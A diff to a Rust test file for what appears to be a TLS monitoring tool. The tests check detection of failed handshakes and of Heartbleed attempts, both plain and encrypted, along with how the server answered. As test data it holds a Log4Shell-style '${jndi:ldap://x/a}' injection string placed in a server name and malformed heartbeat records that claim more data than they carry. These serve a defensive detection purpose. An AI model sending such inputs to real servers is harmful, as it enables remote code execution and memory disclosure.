@@ -132,7 +132,7 @@ fn a_hello_spread_over_records_is_put_together() {
 #[test]
 fn a_name_that_is_none_is_judged_as_text() {
     let heard = play_all_ways(&[ask(record(22, &client_hello(b"${jndi:ldap://x/a}")))], 443);
-    assert_eq!(heard.texts, [("server_name".into(), "${jndi:ldap://x/a}".into())]);
+    assert_eq!(heard.texts, ["server_name=${jndi:ldap://x/a}"]);
 }
 
 #[test]
@@ -158,6 +158,22 @@ fn completed_and_broken_handshakes_are_told_apart() {
 }
 
 #[test]
+fn a_handshake_without_success_is_told_unless_the_client_declined() {
+    let ends = |rest: &[Act]| play_all_ways(&[&[hello()][..], rest].concat(), 443).unmet;
+    assert_eq!(ends(&[]), ["refused"], "silence");
+    assert_eq!(ends(&[answer(record(21, &[2, 112]))]), ["refused"]);
+    assert_eq!(ends(&[answer(server_hello(0x0303))]), ["taken up"], "one that only asked which cipher");
+    assert_eq!(ends(&[answer(server_hello(0x0303)), ask(record(21, &[2, 40]))]), ["taken up"]);
+    assert!(
+        ends(&[answer(server_hello(0x0303)), ask(record(21, &[2, 48]))]).is_empty(),
+        "an unknown authority"
+    );
+    let newest = [server_hello(TLS_1_3), record(20, b"\x01"), record(23, &[1; 900])].concat();
+    assert!(ends(&[answer(newest), ask(record(23, &[3; 19]))]).is_empty(), "an encrypted alert");
+    assert!(play_all_ways(&old_handshake(), 443).unmet.is_empty());
+}
+
+#[test]
 fn a_heartbeat_that_claims_more_than_it_holds_is_an_attack() {
     let before = |heartbeat: &[u8]| {
         let mut dialogue = old_handshake();
@@ -167,8 +183,19 @@ fn a_heartbeat_that_claims_more_than_it_holds_is_an_attack() {
     };
     let heard = before(&[1, 0x40, 0]);
     assert_eq!(heard.odd(), ["tls.heartbleed"]);
-    assert_eq!(heard.oddities[0].0 as usize, record(22, &client_hello(b"Www.Example.org")).len());
+    assert_eq!(heard.offsets[0] as usize, record(22, &client_hello(b"Www.Example.org")).len());
+    assert_eq!(heard.answers[0].outcome, Outcome::Attempted, "a mended server says nothing");
     assert!(before(&[&[1, 0, 4][..], b"ping", &[0; 16]].concat()).odd().is_empty());
+    let answered = |answer: Act| {
+        let mut dialogue = old_handshake();
+        dialogue.truncate(2);
+        dialogue.extend([ask(record(24, &[1, 0x40, 0])), answer]);
+        let heard = play_all_ways(&dialogue, 443);
+        assert_eq!((heard.odd(), heard.answers[0].inferred), (vec!["tls.heartbleed"], false));
+        heard.answers[0].outcome
+    };
+    assert_eq!(answered(answer(record(24, &[2; 16_384]))), Outcome::LikelySuccess);
+    assert_eq!(answered(answer(record(21, &[2, 10]))), Outcome::Refused);
 }
 
 #[test]
@@ -180,6 +207,8 @@ fn an_encrypted_heartbeat_is_told_by_the_length_of_its_answer() {
         play_all_ways(&dialogue, 443)
     };
     assert_eq!(after(51, &[16_000, 16_000]).odd(), ["tls.heartbleed_hidden"]);
+    let leak = Answered { outcome: Outcome::LikelySuccess, inferred: true };
+    assert_eq!(after(51, &[16_000, 16_000]).answers, [leak]);
     assert!(after(51, &[83]).odd().is_empty());
     assert_eq!(after(32, &[]).odd(), ["tls.heartbleed_hidden"], "no room for its padding");
     assert!(after(2_000, &[2_032]).odd().is_empty());
